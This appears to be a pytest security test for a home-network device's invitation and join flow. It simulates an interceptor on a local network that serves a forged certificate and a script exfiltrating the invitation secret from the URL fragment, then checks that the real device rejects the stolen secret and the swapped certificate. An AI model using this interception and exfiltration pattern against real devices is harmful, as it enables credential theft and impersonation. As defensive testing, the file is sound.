"""Somebody between a new phone and the join port: reads the secret, swaps the certificate, gets nobody in."""

import os
import ssl
import threading
from collections.abc import Iterator
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import httpx2
import pytest

from futureself_box.bench.running_box import Device, RunningBox
from futureself_box.lan import authority
from tests.network.home_network import HomeNetwork, Place
from tests.network.test_mdns import box_in
from tests.network.visitor import Visitor

pytestmark = [
    pytest.mark.skipif(os.geteuid() != 0, reason="making networks needs root"),
    pytest.mark.timeout(120),
]
BOX, THIEF = "192.168.7.20", "192.168.7.66"
# What the thief's page does with the fragment, which the real one never sends anywhere.
STEALING = b"<script>fetch('/stolen?' + location.hash.slice(3))</script>"


class Thief:
    """Answers as the join port does, with a page and a certificate of the thief's own."""

    def __init__(self, place: Place) -> None:
        self.stolen: list[str] = []
        made = authority.new_authority("evil", datetime.now(UTC))
        forged, stolen = authority.to_der(made.certificate_pem), self.stolen

        class Answers(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path.startswith("/stolen?"):
                    stolen.append(self.path.partition("?")[2])
                self.send_response(200)
                self.end_headers()
                self.wfile.write(forged if self.path.endswith(".crt") else STEALING)

            def log_message(self, *_: Any) -> None:
                pass

        self._server = place.call(lambda: HTTPServer((THIEF, 8480), Answers))
        self._thread = threading.Thread(target=self._server.serve_forever)
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


@pytest.fixture
def home() -> Iterator[HomeNetwork]:
    """A home with nothing in it."""
    with HomeNetwork() as network:
        yield network


@pytest.fixture
def thief(home: HomeNetwork) -> Iterator[Thief]:
    """Whom the new phone reaches instead of the join port."""
    made = Thief(home.join(THIEF))
    yield made
    made.close()


def invite(place: Place, box: RunningBox) -> tuple[Device, dict[str, str]]:
    """The owner, and an invitation."""
    place.call(box.wait_until_up)
    owner = place.call(box.set_up)
    body = {"name": "Gran"}
    return owner, place.call(lambda: owner.call("POST", "/api/invitations", body))


def test_who_reads_the_secret_on_the_way_and_is_faster_lets_nobody_in(
    home: HomeNetwork, thief: Thief, tmp_path: Path
) -> None:
    place, phone = home.join(BOX), home.join("192.168.7.50")
    with box_in(place, tmp_path) as box:
        owner, invitation = invite(place, box)
        page = phone.call(lambda: httpx2.get(f"http://{THIEF}:8480/"))
        assert b"stolen" in page.content
        phone.call(lambda: httpx2.get(f"http://{THIEF}:8480/stolen?{invitation['secret']}"))
        somewhere = home.join("192.168.7.67")
        assert Visitor(somewhere, BOX).ask(thief.stolen[0]) == ""

        body = {"given": invitation["secret"], "device_name": "Gran's", "commitment": "B" * 43}
        answer = Visitor(phone, BOX).request("POST", "/api/join", body)
        assert answer.json()["code"] == "invitation_doubled"

        path = f"/api/invitations/{invitation['id']}"
        assert place.call(lambda: owner.call("GET", path))["state"] == "doubled"
        assert len(place.call(lambda: owner.call("GET", "/api/members"))) == 1


def test_a_phone_with_a_swapped_certificate_says_nothing_to_the_real_box(
    home: HomeNetwork, thief: Thief, tmp_path: Path
) -> None:
    place, phone = home.join(BOX), home.join("192.168.7.50")
    with box_in(place, tmp_path) as box:
        owner, invitation = invite(place, box)
        forged = phone.call(lambda: httpx2.get(f"http://{THIEF}:8480/future-self-box.crt")).content
        deceived = ssl.create_default_context(cadata=ssl.DER_cert_to_PEM_cert(forged))
        with pytest.raises(httpx2.ConnectError, match="CERTIFICATE_VERIFY_FAILED"):
            phone.call(lambda: httpx2.get(f"https://{BOX}:8443/check", verify=deceived))
        path = f"/api/invitations/{invitation['id']}"
        assert place.call(lambda: owner.call("GET", path))["state"] == "open"


def test_the_thief_can_t_stand_in_for_the_box_s_name_before_a_phone_that_trusts_it(
    home: HomeNetwork, tmp_path: Path
) -> None:
    place, phone = home.join(BOX), home.join("192.168.7.50")
    with box_in(place, tmp_path / "box") as box:
        place.call(box.wait_until_up)
        trusting = Visitor(phone, BOX).context
    imposter = home.join(THIEF)
    with box_in(imposter, tmp_path / "imposter") as other:
        imposter.call(other.wait_until_up)
        with pytest.raises(httpx2.ConnectError, match="CERTIFICATE_VERIFY_FAILED"):
            phone.call(lambda: httpx2.get(f"https://{THIEF}:8443/check", verify=trusting))
